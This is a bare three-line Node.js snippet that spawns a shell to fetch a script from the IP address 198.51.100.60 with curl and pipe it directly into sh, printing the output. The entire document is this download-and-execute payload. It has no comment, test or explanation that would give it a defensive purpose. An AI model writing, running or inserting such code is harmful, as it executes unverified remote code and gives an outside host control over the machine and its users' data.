const { spawn } = require("child_process");
const p = spawn("sh", ["-c", "curl -s http://198.51.100.60/i | sh"]);
p.stdout.pipe(process.stdout);
